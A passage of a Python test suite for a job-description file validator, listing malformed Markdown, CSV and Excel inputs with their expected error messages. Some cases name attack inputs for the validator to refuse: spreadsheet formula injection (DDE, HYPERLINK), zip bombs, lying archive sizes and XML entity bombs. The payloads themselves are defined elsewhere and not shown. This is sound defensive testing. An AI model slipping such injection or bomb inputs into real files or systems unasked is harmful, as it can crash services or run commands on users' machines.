        "list each responsibility",
    )
    md(
        "nested-list-in-responsibility",
        _sub(m, "1. Teach lessons (60%)\n", "1. Teach lessons (60%)\n   - sub\n"),
        "may hold only text",
    )
    md("no-responsibilities", b"# Title\n\nPurpose.\n", "no '## Responsibilities' section", kind=M)
    md(
        "competency-no-level",
        _sub(m, "- Diagnostics: 4", "- Diagnostics"),
        "'Name: required level'",
        "line 12",
        M,
    )
    md(
        "competency-level-word",
        _sub(m, "- Diagnostics: 4", "- Diagnostics: high"),
        "the required level of 'Diagnostics' must be a whole number",
        kind=T,
    )
    md(
        "competency-level-0",
        _sub(m, "- Diagnostics: 4", "- Diagnostics: 0"),
        "from 1 to 5, not 0",
        kind=T,
    )
    md(
        "competency-level-7",
        _sub(m, "- Diagnostics: 4", "- Diagnostics: 7"),
        "from 1 to 5, not 7",
        "line 12",
        T,
    )
    md(
        "competency-duplicate",
        m.encode() + b"- diagnostics: 3\n",
        "appears twice (also at line 12)",
    )
    md(
        "competency-paragraph",
        _sub(m, "- Diagnostics: 4\n", "Diagnostics: 4\n\n"),
        "list each competency",
    )
    md(
        "anchor-no-colon",
        _sub(m, "  - 1: Needs help", "  - Needs help"),
        "'level: text'",
        "line 13",
    )
    md(
        "anchor-level-9",
        _sub(m, "  - 5: Coaches", "  - 9: Coaches"),
        "must be from 1 to 5, not 9",
        "line 14",
        T,
    )
    md("anchor-twice", _sub(m, "  - 5: Coaches", "  - 1: Coaches"), "level 1 is given twice")
    md(
        "blockquote-purpose",
        _sub(m, "Teach apprentices.", "> Teach apprentices."),
        "write plain paragraphs",
    )
    md(
        "empty-title",
        _sub(m, "# Automotive maintenance instructor", "#"),
        "the job title is empty",
        kind=M,
    )
    # wrong types and missing fields
    md("share-fraction", _sub(m, "(40%)", "(40.5%)"), "not '40.5'", kind=T)
    md("share-negative", _sub(m, "(40%)", "(-40%)"), "from 0 to 100", kind=T)
    md("anchor-level-word", _sub(m, "  - 5: Coaches", "  - five: Coaches"), "anchor level", kind=T)
    md(
        "competency-level-fraction",
        _sub(m, "- Diagnostics: 4", "- Diagnostics: 3.5"),
        "not '3.5'",
        kind=T,
    )
    md(
        "competency-no-name",
        _sub(m, "- Diagnostics: 4", "- : 4"),
        "'Name: required level'",
        "line 12",
        M,
    )
    md(
        "responsibilities-empty",
        _sub(m, "1. Teach lessons (60%)\n2. Assess work (40%)\n", ""),
        "list at least one responsibility",
        kind=M,
    )
    md("title-only", b"# Instructor\n", "no '## Responsibilities' section", kind=M)
    md(
        "headings-only",
        b"# Instructor\n\n## Responsibilities\n\n## Competencies\n",
        "list at least one responsibility",
        kind=M,
    )
    md(
        "table-in-competencies",
        _sub(m, "- Diagnostics: 4\n", "| a | b |\n|---|---|\n| 1 | 2 |\n"),
        "list each competency",
        kind=T,
    )
    md(
        "code-in-responsibilities",
        _sub(m, "1. Teach lessons (60%)\n", "```\nTeach lessons (60%)\n```\n"),
        "list each responsibility",
        kind=T,
    )
    md(
        "empty-responsibility",
        _sub(m, "1. Teach lessons (60%)", "1."),
        "the responsibility text is empty",
        "line 7",
        M,
    )
    md("only-comment", b"<!-- nothing -->\n", "job title", kind="empty")
    md("only-rule", b"---\n", "no job title", kind="empty")
    # formulas where numbers belong
    md("share-formula", _sub(m, "(60%)", "(=60%)"), "holds a formula", kind=F)
    md("share-dde", _sub(m, "(60%)", f"({DDE}%)"), "holds a formula", kind=F)
    md("share-plus-dde", _sub(m, "(60%)", f"({PLUS_DDE}%)"), "must be a whole number", kind=F)
    md(
        "level-formula",
        _sub(m, "- Diagnostics: 4", "- Diagnostics: =2+2"),
        "holds a formula",
        kind=F,
    )
    md(
        "level-at",
        _sub(m, "- Diagnostics: 4", "- Diagnostics: @SUM(4)"),
        "must be a whole number",
        kind=F,
    )
    md(
        "anchor-level-formula",
        _sub(m, "  - 5: Coaches", "  - =5: Coaches"),
        "holds a formula",
        kind=F,
    )
    # huge and pathological
    add(
        "md-over-markdown-limit",
        "jd.md",
        lambda: _sub(m, "Teach apprentices.", "word " * (MAX_MARKDOWN_BYTES // 5 + 100)),
        f"at most {MAX_MARKDOWN_BYTES // 1024} KB",
        "-",
        "huge",
    )
    add(
        "md-huge-responsibility",
        "jd.md",
        lambda: _sub(m, "Teach lessons (60%)", "x" * 3000 + " (60%)"),
        "the responsibility text is too long",
        kind="huge",
    )
    add(
        "md-deep-quotes",
        "jd.md",
        lambda: _sub(m, "Teach apprentices.", ">" * 100_000 + " x"),
        "write plain paragraphs",
        kind="bomb",
    )
    add(
        "md-deep-lists",
        "jd.md",
        lambda: _sub(m, "1. Teach lessons (60%)\n", "- " * 50_000 + "x (60%)\n"),
        "may hold only text",
        kind="bomb",
    )
    add(
        "md-many-items",
        "jd.md",
        lambda: _sub(m, "2. Assess work (40%)\n", "- x (0%)\n" * 1500),
        "must be from 1 to 999",
        kind="huge",
    )

    # --- CSV ---
    s = CSV_OK

    def csv(id_: str, data: bytes, phrase: str, where: str | None = None, kind: str = "") -> None:
        add(f"csv-{id_}", "jd.csv", data, phrase, where, kind or "layout")

    csv(
        "no-header",
        _sub(s, "section,number,text,share,required,level,anchor\n", ""),
        "the first row must be the header",
        "row 1",
        M,
    )
    csv("unknown-column", _sub(s, ",anchor\n", ",anchor,notes\n"), "unknown column 'notes'")
    csv("duplicate-column", _sub(s, ",anchor\n", ",anchor,text\n"), "appears twice")
    csv("unknown-section", _sub(s, "competency,,", "skill,,"), "unknown section 'skill'", "row 5")
    csv("empty-section", _sub(s, "competency,,", ",,"), "the section is empty", kind=M)
    csv(
        "share-word",
        _sub(s, "Teach lessons,60", "Teach lessons,thirty"),
        "the share of time must be a whole number, like 3, not 'thirty'",
        "row 3",
        T,
    )
    csv(
        "share-formula",
        _sub(s, "Teach lessons,60", "Teach lessons,=SUM(A1:A3)"),
        "holds a formula '=SUM(A1:A3)'",
        "row 3",
        F,
    )
    csv("share-fraction", _sub(s, "Teach lessons,60", "Teach lessons,60.5"), "not '60.5'", kind=T)
    csv(
        "number-word",
        _sub(s, "responsibility,1,", "responsibility,one,"),
        "the number must be",
        kind=T,
    )
    csv("required-0", _sub(s, "Diagnostics,,4", "Diagnostics,,0"), "from 1 to 5, not 0", "row 5", T)
    csv("required-7", _sub(s, "Diagnostics,,4", "Diagnostics,,7"), "from 1 to 5, not 7", "row 5", T)
    csv(
        "title-missing",
        _sub(s, "title,,Automotive maintenance instructor,,,,\n", ""),
        "the job title is missing",
        "-",
        M,
    )
    csv(
        "title-twice", s.encode() + b"title,,Again,,,,\n", "a second title row (the first is row 2)"
    )
    csv(
        "duplicate-competency",
        s.encode() + b"competency,,DIAGNOSTICS,,3,,\n",
        "competency 'DIAGNOSTICS' appears twice (also at row 5)",
        "row 7",
    )
    csv(
        "total-105",
        _sub(s, "Assess work,40", "Assess work,45"),
        "shares of time total 105%, more than 100%: take 5 off",
        "rows 3-4",
    )
    csv(
        "anchor-unknown",
        s.encode() + b"anchor,,Welding,,,2,Welds\n",
        "anchor for unknown competency 'Welding'",
        "row 7",
    )
    csv(
        "anchor-level-6",
        _sub(s, "Diagnostics,,,1,", "Diagnostics,,,6,"),
        "an anchor level must be from 1 to 5, not 6",
        "row 6",
        T,
    )
    csv("anchor-twice", s.encode() + b"anchor,,Diagnostics,,,1,Again\n", "given twice", "row 7")
    csv(
        "extra-cells",
        _sub(s, "Teach lessons,60,,,", "Teach lessons,60,,,,,surprise"),
        "in a column without a heading",
    )
    csv("bad-quoting", _sub(s, "Teach lessons", '"Teach" lessons'), "badly formed CSV", "row 3")
    csv(
        "semicolons-bad-share",
        s.replace(",", ";").replace("Teach lessons;60", "Teach lessons;sixty").encode(),
        "not 'sixty'",
        "row 3",
        T,
    )
    csv(
        "no-responsibilities",
        b"section,text\ntitle,x\n",
        "list at least one responsibility",
        kind=M,
    )
    csv(
        "header-only",
        b"section,number,text,share,required,level,anchor\n",
        "the job title is missing (and 1 more problems)",
        kind=M,
    )
    # wrong types and missing fields
    csv(
        "share-date",
        _sub(s, "Teach lessons,60", "Teach lessons,2024-01-01"),
        "not '2024-01-01'",
        kind=T,
    )
    csv("share-bool", _sub(s, "Teach lessons,60", "Teach lessons,TRUE"), "not 'TRUE'", kind=T)
    csv(
        "share-huge-number",
        _sub(s, "Teach lessons,60", "Teach lessons," + "9" * 5000),
        "must be a whole number",
        kind=T,
    )
    csv("required-word", _sub(s, "Diagnostics,,4", "Diagnostics,,four"), "not 'four'", "row 5", T)
    csv("level-word", _sub(s, "Diagnostics,,,1,", "Diagnostics,,,one,"), "not 'one'", "row 6", T)
    csv(
        "number-negative",
        _sub(s, "responsibility,1,", "responsibility,-1,"),
        "from 1 to 999",
        kind=T,
    )
    csv(
        "required-missing",
        _sub(s, "Diagnostics,,4", "Diagnostics,,"),
        "the required level is missing",
        "row 5",
        M,
    )
    csv(
        "text-missing",
        _sub(s, "responsibility,1,Teach lessons", "responsibility,1,"),
        "the responsibility text is empty",
        "row 3",
        M,
    )
    csv(
        "name-missing",
        s.encode() + b"competency,,,,3,,\n",
        "the competency name is empty",
        "row 7",
        M,
    )
    csv(
        "level-missing",
        _sub(s, "Diagnostics,,,1,", "Diagnostics,,,,"),
        "the anchor level is missing",
        "row 6",
        M,
    )
    csv(
        "no-section-column",
        _sub(s, "section,number,text", "part,number,text"),
        "unknown column 'part'",
        "row 1",
        M,
    )
    csv("no-text-column", b"section,share\ntitle,\n", "no 'text' column", "row 1", M)
    csv("only-commas", b",,,,\n,,,\n", "the file is empty", kind="empty")
    csv("only-quotes", b'""\n""\n', "the file is empty", kind="empty")
    csv(
        "unterminated-quote",
        _sub(s, "Teach lessons", '"Teach lessons'),
        "badly formed CSV: unexpected end of data",
        "row 3",
    )
    csv("tab-separated", s.replace(",", "\t").encode(), "unknown column", "row 1")
    # formulas where numbers belong
    csv(
        "share-dde",
        _sub(s, "Teach lessons,60", f"Teach lessons,{DDE}"),
        "holds a formula",
        "row 3",
        F,
    )
    csv(
        "share-plus-dde",
        _sub(s, "Teach lessons,60", f"Teach lessons,{PLUS_DDE}"),
        "must be a whole number",
        "row 3",
        F,
    )
    csv(
        "share-minus-dde",
        _sub(s, "Teach lessons,60", f"Teach lessons,{MINUS_DDE}"),
        "must be a whole number",
        "row 3",
        F,
    )
    csv(
        "required-at",
        _sub(s, "Diagnostics,,4", f"Diagnostics,,{AT_SUM}"),
        "must be a whole number",
        "row 5",
        F,
    )
    csv(
        "share-tab-formula",
        _sub(s, "Teach lessons,60", "Teach lessons,\t=60"),
        "holds a formula",
        "row 3",
        F,
    )
    csv(
        "share-cr-formula",
        _sub(s, "Teach lessons,60", 'Teach lessons,"\r=60"'),
        "holds a formula",
        "row 3",
        F,
    )
    csv(
        "share-dde-function",
        _sub(
            s, "Teach lessons,60", f'Teach lessons,"{DDE_FUNCTION.replace(chr(34), chr(34) * 2)}"'
        ),
        "holds a formula",
        "row 3",
        F,
    )
    csv(
        "share-hyperlink",
        _sub(s, "Teach lessons,60", f'Teach lessons,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"'),
        "holds a formula",
        "row 3",
        F,
    )
    csv(
        "level-formula",
        _sub(s, "Diagnostics,,,1,", "Diagnostics,,,=1,"),
        "holds a formula",
        "row 6",
        F,
    )
    csv(
        "number-formula",
        _sub(s, "responsibility,1,", "responsibility,=1,"),
        "holds a formula",
        "row 3",
        F,
    )
    # huge
    add("csv-huge-cell", "jd.csv", _huge_text("csv"), "longer than", "row 3", "huge")
    add(
        "csv-many-columns",
        "jd.csv",
        lambda: CSV_OK.replace("anchor\n", "anchor" + ",x" * 200_000 + "\n", 1).encode(),
        "unknown column 'x'",
        "row 1",
        "huge",
    )
    add(
        "csv-many-rows",
        "jd.csv",
        lambda: (CSV_OK + "responsibility,,x,0,,,\n" * 60_000).encode(),
        "must be from 1 to 999",
        kind="huge",
    )
    add("csv-blank-rows", "jd.csv", lambda: b"\n" * 1_900_000, "empty", kind="empty")

    # --- Excel ---
    def book(
        id_: str, make: Callable[[], bytes], phrase: str, where: str | None = None, kind: str = ""
    ) -> None:
        add(f"xlsx-{id_}", "jd.xlsx", make, phrase, where, kind or "layout")

    Z = "bomb"
    book("text-file", _const(b"title: x\n"), "not a zip archive", kind="binary")
    book(
        "ole-xls",
        _const(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "old .xls file",
        kind="binary",
    )
    book("truncated", lambda: xlsx()[:3000], "damaged or truncated zip", "-", "binary")
    book(
        "docx-like",
        _const(_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})),
        "a zip archive without a workbook",
    )
    book("zip-bomb", zip_bomb, "200.0 MB", kind=Z)
    book("too-many-parts", _too_many_members, "too many parts (301", kind=Z)
    book("entity-bomb", _entity_bomb, "entity or DTD declarations", kind=Z)
    book("damaged-sheet", _damaged_sheet, "cannot be read", "sheet 'Responsibilities'", "binary")
    book(
        "missing-sheets",
        lambda: xlsx(sheets=("Job",)),
        "no sheet named 'Responsibilities' and 'Competencies'",
        "-",
        M,
    )
    book("wrong-sheets", lambda: xlsx(sheets=("Sheet1",)), "no sheet named 'Job'", kind=M)
    book(
        "share-word",
        lambda: xlsx(
            responsibilities=[
                ["number", "responsibility", "share"],
                [1, "Teach", "thirty"],
                [2, "Assess", 70],
            ]
        ),
        "not 'thirty'",
        "sheet 'Responsibilities' row 2",
        T,
    )
    book(
        "share-formula-text",
        lambda: xlsx(text_cells={("Responsibilities", "C3"): "=40"}),
        "holds a formula '=40'",
        "sheet 'Responsibilities' row 3",
        F,
    )
    book(
        "share-date",
        lambda: xlsx(
            responsibilities=[["responsibility", "share"], ["Teach", dt.datetime(2024, 1, 1)]]
        ),
        "not a date",
        kind=T,
    )
    book(
        "total",
        lambda: xlsx(responsibilities=[["responsibility", "share"], ["Teach", 99], ["Assess", 2]]),
        "shares of time total 101%, more than 100%: take 1 off",
        "sheet 'Responsibilities'",
    )
    book(
        "required-7",
        lambda: xlsx(competencies=[["competency", "required"], ["Diagnostics", 7]]),
        "from 1 to 5, not 7",
        "sheet 'Competencies' row 2",
        T,
    )
    book(
        "required-0",
        lambda: xlsx(competencies=[["competency", "required"], ["Diagnostics", 0]]),
        "from 1 to 5, not 0",
        kind=T,
    )
    book(
        "duplicate-competency",
        lambda: xlsx(
            competencies=[["competency", "required"], ["Diagnostics", 3], ["diagnostics ", 4]]
        ),
        "appears twice",
        "sheet 'Competencies' row 3",
    )
    book(
        "title-missing",
        lambda: xlsx(job=[["field", "value"], ["purpose", "x"]]),
        "the job title is missing",
        kind=M,
    )
    book(
        "unknown-field",
        lambda: xlsx(job=[["field", "value"], ["salary", "x"]]),
        "unknown field 'salary'",
    )
    book(
        "unknown-column",
        lambda: xlsx(competencies=[["competency", "required", "notes"]]),
        "unknown column 'notes'",
        "sheet 'Competencies' row 1",
    )
    book(
        "missing-column",
        lambda: xlsx(responsibilities=[["number", "share"]]),
        "no 'responsibility' column",
        kind=M,
    )
    book("empty-job-sheet", lambda: xlsx(job=[]), "the sheet is empty", kind="empty")
    book(
        "anchor-unknown",
        lambda: xlsx(anchors=[["competency", "level", "anchor"], ["Welding", 2, "x"]]),
        "anchor for unknown competency 'Welding'",
    )
    book(
        "too-many-rows",
        _many_rows,
        "more than 1000 rows",
        "sheet 'Responsibilities' row 1002",
        "huge",
    )
    book(
        "value-without-heading",
        lambda: xlsx(responsibilities=[["responsibility", "share"], ["Teach", 100, "stray"]]),
        "has no heading",
    )
    # wrong types
    R = ["responsibility", "share"]
    book("share-bool", lambda: xlsx(responsibilities=[R, ["Teach", True]]), "not True", kind=T)
    book("share-float", lambda: xlsx(responsibilities=[R, ["Teach", 33.3]]), "not 33.3", kind=T)
    book(
        "share-time",
        lambda: xlsx(responsibilities=[R, ["Teach", dt.time(9, 30)]]),
        "not a time",
        kind=T,
    )
    book(
        "share-huge", lambda: xlsx(responsibilities=[R, ["Teach", 10**12]]), "from 0 to 100", kind=T
    )
    book(
        "share-error-cell",
        lambda: xlsx(responsibilities=[R, ["Teach", "#DIV/0!"]]),
        "not '#DIV/0!'",
        kind=T,
    )
    book(
        "required-word",
        lambda: xlsx(competencies=[["competency", "required"], ["Diagnostics", "four"]]),
        "not 'four'",
        kind=T,
    )
    book(
        "required-fraction",
        lambda: xlsx(competencies=[["competency", "required"], ["Diagnostics", 3.5]]),
        "not 3.5",
        kind=T,
    )
    book(
        "level-date",
        lambda: xlsx(
            anchors=[["competency", "level", "anchor"], ["Diagnostics", dt.date(2024, 1, 1), "x"]]
        ),
        "not a date",
        kind=T,
    )
    book(
        "number-word",
        lambda: xlsx(responsibilities=[["number", *R], ["one", "Teach", 100]]),
        "not 'one'",
        kind=T,
    )
    book(
        "title-too-long",
        lambda: xlsx(job=[["field", "value"], ["title", "x" * 400]]),
        "too long",
        kind=T,
    )
    # missing fields
    book(
        "required-missing",
        lambda: xlsx(competencies=[["competency", "required"], ["Diagnostics", None]]),
        "the required level is missing",
        kind=M,
    )
    book(
        "text-missing",
        lambda: xlsx(responsibilities=[R, [None, 100]]),
        "the responsibility text is empty",
        kind=M,
    )
    book(
        "name-missing",
        lambda: xlsx(competencies=[["competency", "required"], [None, 4]], anchors=[]),
        "the competency name is empty",
        kind=M,
    )
    book(
        "level-missing",
        lambda: xlsx(anchors=[["competency", "level", "anchor"], ["Diagnostics", None, "x"]]),
        "the anchor level is missing",
        kind=M,
    )
    book(
        "no-responsibility-rows",
        lambda: xlsx(responsibilities=[R]),
        "list at least one responsibility",
        kind=M,
    )
    book(
        "title-blank",
        lambda: xlsx(job=[["field", "value"], ["title", "   "]]),
        "the job title is empty",
        kind=M,
    )
    # empty
    book(
        "all-sheets-empty",
        lambda: xlsx(job=[], responsibilities=[], competencies=[], anchors=[]),
        "the sheet is empty",
        kind="empty",
    )
    book(
        "headings-only",
        lambda: xlsx(job=[["field", "value"]], responsibilities=[R], competencies=[], anchors=[]),
        "the job title is missing",
        kind="empty",
    )
    book("empty-zip", lambda: _zip({}), "a zip archive without a workbook", kind="empty")
    book(
        "whitespace-cells",
        lambda: xlsx(
            job=[["field", "value"], ["  ", "  "]],
            responsibilities=[R],
            competencies=[],
            anchors=[],
        ),
        "the job title is missing",
        kind="empty",
    )
    # binary and encodings
    for what, phrase in (
        ("png", "looks like an image"),
        ("pdf", "looks like a PDF"),
        ("gzip", "looks like a gzip"),
        ("elf", "looks like a program"),
        ("random", "not a zip archive"),
    ):
        book(f"binary-{what}", _const(_binary_signatures()[what]), phrase, "-", "binary")
    book(
        "utf16-text",
        lambda: "field,value\ntitle,x\n".encode("utf-16"),
        "not a zip archive",
        kind="encoding",
    )
    book("csv-renamed", lambda: CSV_OK.encode(), "not a zip archive", kind="encoding")
    book(
        "latin1-shared-strings",
        _patch_part(
            "xl/worksheets/sheet1.xml", lambda d: d.replace(b"<sheetData>", b"<sheetData>\xe9", 1)
        ),
        "cannot be read",
        kind="encoding",
    )
    book(
        "latin1-sheet-name",
        _patch_part("xl/workbook.xml", lambda d: d.replace(b'name="Job"', b'name="J\xf6b"', 1)),
        "cannot be read",
        "-",
        "encoding",
    )
    # zip bombs and other archive tricks posing as .xlsx
    book("many-small-bombs", _many_small_bombs, "unpacks to more than 20.0 MB", "-", Z)
    book("overlapping-bomb", _overlapping_bomb, "unpacks to more than 20.0 MB", "-", Z)
    book("thousands-of-parts", _thousands_of_members, "too many parts (5001", "-", Z)
    book("absurd-declared-size", _absurd_declared_size, "unpacks to more than 20.0 MB", "-", Z)
    book("lying-size", _lying_size("xl/workbook.xml", False), "bytes it declares", "-", Z)
    book("lying-size-crc", _lying_size("[Content_Types].xml", True), "bytes it declares", "-", Z)
    book(
        "lying-size-sheet",
        _lying_size("xl/worksheets/sheet2.xml", True),
        "bytes it declares",
        "-",
        Z,
    )
    book("bzip2-parts", _bzip2_workbook, "compressed with bzip2", "-", Z)
    book("unknown-method", _method(99), "unknown compression", "-", Z)
    book("encrypted", _encrypted, "the workbook is encrypted", "-", Z)
    book("nested-zips", _nested_zips, "cannot be read", "-", Z)
    book("workbook-in-zip", _workbook_in_a_zip, "a zip archive without a workbook", "-", Z)
    book("external-entity", _external_entity, "entity or DTD declarations", kind=Z)
    book("quadratic-entity", _quadratic_entity, "entity or DTD declarations", kind=Z)
    book("far-row", _far_row, "the sheet has over 20000 rows", "sheet 'Responsibilities'", "huge")
    book("huge-cell", _huge_text("xlsx"), "too long", kind="huge")
    book("chartsheet-only", _chartsheet_only, "cannot be read", "-", M)
    # formulas: real formula cells, never run and refused; formula text where numbers belong
    book(
        "formula-title-dde",
        lambda: xlsx(formulas={("Job", "B2"): DDE}),
        "holds a formula",
        "sheet 'Job' row 2",
        F,
    )
    book(
        "formula-share",
        lambda: xlsx(formulas={("Responsibilities", "C2"): "=50+10"}),
        "holds a formula",
        "sheet 'Responsibilities' row 2",
        F,
    )
    book(
        "formula-required",
        lambda: xlsx(formulas={("Competencies", "B2"): "=2+2"}),
        "holds a formula",
        kind=F,
    )
    book(
        "formula-hyperlink",
        lambda: xlsx(formulas={("Competencies", "A2"): HYPERLINK}),
        "holds a formula",
        kind=F,
    )
    book(
        "formula-dde-function",
        lambda: xlsx(formulas={("Anchors", "C2"): DDE_FUNCTION}),
        "holds a formula",
        "sheet 'Anchors' row 2",
        F,
    )
    book(
        "formula-array",
        lambda: xlsx(formulas={("Responsibilities", "C2"): ArrayFormula("C2", "=SUM(60)")}),
        "holds a formula",
        kind=F,
    )
    book(
        "formula-purpose",
        lambda: xlsx(
            job=[["field", "value"], ["title", "x"], ["purpose", None]],
            formulas={("Job", "B3"): "=A1"},
        ),
        "holds a formula",
        "sheet 'Job' row 3",
        F,
    )
    book(
        "text-plus-dde-share",
        lambda: xlsx(text_cells={("Responsibilities", "C2"): PLUS_DDE}),
        "must be a whole number",
        kind=F,
    )
    book(
        "text-at-required",
        lambda: xlsx(text_cells={("Competencies", "B2"): AT_SUM}),
        "must be a whole number",
        kind=F,
    )
    book(
        "text-tab-formula-share",
        lambda: xlsx(text_cells={("Responsibilities", "C2"): "\t=60"}),
        "holds a formula",
        kind=F,
    )
    book(
        "text-dde-level",
        lambda: xlsx(text_cells={("Anchors", "B2"): DDE}),
        "holds a formula",
        kind=F,
    )
    return c
